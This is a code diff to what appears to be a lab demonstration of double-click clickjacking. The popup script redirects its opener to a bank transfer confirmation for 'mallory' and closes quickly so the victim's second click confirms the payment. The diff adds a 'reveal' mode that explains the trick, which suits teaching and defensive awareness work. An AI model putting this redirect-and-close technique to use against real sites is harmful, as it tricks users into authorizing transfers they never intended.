@@ -14,6 +14,12 @@
   };
   place();
   window.addEventListener("resize", place);
+  // Reveal: mark the spot, and stay open long enough to watch the window behind change.
+  var reveal = new URLSearchParams(window.location.search).get("reveal") === "1";
+  if (reveal) {
+    document.body.classList.add("revealed");
+    document.getElementById("reveal-note").hidden = false;
+  }
   var sprung = false;
   button.addEventListener("mousedown", function () {
     if (sprung || !bank || !window.opener) {
@@ -22,6 +28,11 @@
     sprung = true;
     window.opener.location = bank +
       "/transfer/confirm?to=mallory&amount=150.00&memo=Captcha%20verification&scenario=doubleclick";
-    window.setTimeout(function () { window.close(); }, 30);
+    if (reveal) {
+      document.getElementById("reveal-note").textContent =
+        "The window behind this one is now on the bank's confirmation page, its button right under this one. " +
+        "Your second click would have landed on it. This window closes in 4 seconds.";
+    }
+    window.setTimeout(function () { window.close(); }, reveal ? 4000 : 30);
   });
 })();
